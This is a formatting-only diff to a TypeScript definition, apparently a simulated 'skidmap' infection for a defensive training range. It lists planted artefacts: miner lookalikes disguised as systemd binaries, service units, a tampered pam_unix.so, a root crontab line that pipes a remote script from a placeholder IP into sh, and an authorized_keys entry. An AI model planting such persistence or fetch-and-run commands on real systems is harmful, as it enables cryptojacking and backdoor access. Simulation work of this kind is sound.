@@ -19,7 +19,10 @@ export const skidmap: Infection = {
     {
       kind: 'file',
       path: '/usr/bin/systemd-cgroup',
-      content: { lookalike: { ...miner, keeps: ['/usr/bin/systemd-deltaed'], keepsRunning: ['/usr/bin/systemd-deltaed'] }, words: minerWords },
+      content: {
+        lookalike: { ...miner, keeps: ['/usr/bin/systemd-deltaed'], keepsRunning: ['/usr/bin/systemd-deltaed'] },
+        words: minerWords,
+      },
       mode: 0o755,
     },
     {
@@ -36,7 +39,12 @@ export const skidmap: Infection = {
       mode: 0o755,
     },
     { kind: 'file', path: '/usr/bin/systemd-cgroup.org', content: { copyOf: '/usr/bin/systemd-cgroup' }, mode: 0o755 },
-    { kind: 'file', path: '/usr/bin/systemd-deltaed.org', content: { copyOf: '/usr/bin/systemd-deltaed' }, mode: 0o755 },
+    {
+      kind: 'file',
+      path: '/usr/bin/systemd-deltaed.org',
+      content: { copyOf: '/usr/bin/systemd-deltaed' },
+      mode: 0o755,
+    },
     { kind: 'file', path: '/lib/systemd/system/systemd-cgroup.service', content: { text: unit('systemd-cgroup') } },
     { kind: 'file', path: '/lib/systemd/system/systemd-deltaed.service', content: { text: unit('systemd-deltaed') } },
     { kind: 'unit', name: 'systemd-cgroup.service', path: '/lib/systemd/system/systemd-cgroup.service' },
@@ -44,7 +52,10 @@ export const skidmap: Infection = {
     {
       kind: 'file',
       path: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so',
-      content: { copyOf: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so', append: 'davylamp range: changed by an intruder\n' },
+      content: {
+        copyOf: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so',
+        append: 'davylamp range: changed by an intruder\n',
+      },
       mode: 0o644,
       after: 'advised',
     },
@@ -55,7 +66,12 @@ export const skidmap: Infection = {
       mode: 0o755,
       after: 'advised',
     },
-    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: '*/1 * * * * curl -fsSL http://203.0.113.51/pm.sh | sh', mode: 0o600 },
+    {
+      kind: 'line',
+      path: '/var/spool/cron/crontabs/root',
+      text: '*/1 * * * * curl -fsSL http://203.0.113.51/pm.sh | sh',
+      mode: 0o600,
+    },
     {
       kind: 'line',
       path: '/root/.ssh/authorized_keys',
